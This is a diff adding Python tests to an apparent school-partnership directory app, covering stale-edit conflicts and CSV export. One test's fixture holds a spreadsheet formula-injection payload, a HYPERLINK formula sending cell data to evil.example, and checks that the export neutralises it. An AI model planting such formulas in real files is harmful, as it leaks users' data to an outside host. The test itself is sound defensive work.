@@ -4,11 +4,14 @@ the chat answering from the edit; the export imports back unchanged; every chang
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import requests
 from sqlalchemy import func, select
 
+from bot.directory.importer import import_partners
 from bot.models import AuditEvent, Partnership
 from tests.test_desk import Desk, csrf, desk  # noqa: F401  (the fixture)
 
@@ -18,6 +21,10 @@ Reading Rockets,Lowell Elementary,tutoring; mentoring,2026-27,mou,active,,
 Clay Studio,Nowhere Academy,arts,2026-27,psc,active,,
 Clay Studio,Garfield High School,arts,2026-27,psc,active,2026-09-01,2026-08-01
 """
+
+
+def _loaded(page: requests.Response) -> str:
+    return re.search(r'name="loaded" value="([^"]+)"', page.text).group(1)
 
 
 def _signed_in(desk: Desk) -> tuple[requests.Session, requests.Response]:  # noqa: F811
@@ -76,7 +83,7 @@ def test_an_edit_is_checked_like_an_import_row_and_the_chat_answers_from_it(desk
     assert "Reading Rockets" in chat("tutoring partners at Garfield High School")
     page = browser.get(desk.url + f"/desk/partners/{pid}", timeout=10)
     assert 'value="tutoring"' in page.text and "2026-07-31" not in page.text
-    form = {"csrf": csrf(page), "services": "mentoring", "agreement_type": "mou", "status": "active",
+    form = {"csrf": csrf(page), "loaded": _loaded(page), "services": "mentoring", "agreement_type": "mou", "status": "active",
             "agreement_signed": "2026-08-01", "agreement_expires": "2026-07-01", "outcomes": ""}
     refused = browser.post(desk.url + f"/desk/partners/{pid}", data=form, timeout=10)
     assert refused.status_code == 400 and "Not saved: agreement_expires is before agreement_signed" in refused.text
@@ -107,3 +114,39 @@ def test_a_correction_ticket_links_to_the_entry_it_is_about(desk: Desk) -> None:
                               .order_by(Partnership.id)).first()
     page = browser.get(desk.url + f"/desk/tickets/{number}", timeout=10).text
     assert f'<a href="/desk/partners/{pid}">Reading Rockets at Garfield (2026-27)</a>' in page
+
+
+def test_a_save_over_someone_elses_newer_change_is_refused(desk: Desk) -> None:  # noqa: F811
+    browser, queue = _signed_in(desk)
+    _import(desk, browser, csrf(queue))
+    with desk.runtime.database.session() as session:
+        pid = session.scalars(select(Partnership.id).order_by(Partnership.id)).first()
+    mine = browser.get(desk.url + f"/desk/partners/{pid}", timeout=10)
+    theirs = browser.get(desk.url + f"/desk/partners/{pid}", timeout=10)
+    base = {"csrf": csrf(mine), "agreement_type": "mou", "agreement_signed": "2026-08-01",
+            "agreement_expires": "2027-07-31"}
+    first = browser.post(desk.url + f"/desk/partners/{pid}", data={**base, "loaded": _loaded(theirs),
+                                                                   "services": "tutoring; mentoring", "status": "active"})
+    assert first.url.endswith("?done=saved")
+    late = browser.post(desk.url + f"/desk/partners/{pid}", data={**base, "loaded": _loaded(mine),
+                                                                  "services": "tutoring", "status": "pending"})
+    assert late.status_code == 409 and "nothing was saved" in late.text
+    assert 'value="mentoring; tutoring"' in late.text  # the form shows the entry as it now is
+    with desk.runtime.database.session() as session:
+        partnership = session.get(Partnership, pid)
+        assert partnership.status == "active" and len(partnership.services) == 2
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula_and_still_imports_back(desk: Desk) -> None:  # noqa: F811
+    with desk.runtime.database.session() as session:
+        import_partners(session, rows=[{"organization": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+                                        "school": "Garfield", "services": "arts", "school_year": "2026-27",
+                                        "agreement_type": "mou", "status": "active", "outcomes": "@SUM(1+1)"}])
+    browser, queue = _signed_in(desk)
+    exported = browser.get(desk.url + "/desk/partners.csv", timeout=10)
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert rows[0]["organization"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert rows[0]["outcomes"] == "'@SUM(1+1)"
+    again = browser.post(desk.url + "/desk/partners/import", data={"csrf": csrf(queue), "mode": "dry-run"},
+                         files={"file": ("export.csv", exported.content, "text/csv")}, timeout=20)
+    assert "of 1 rows, 0 would be new, 0 updated and 1 unchanged." in again.text
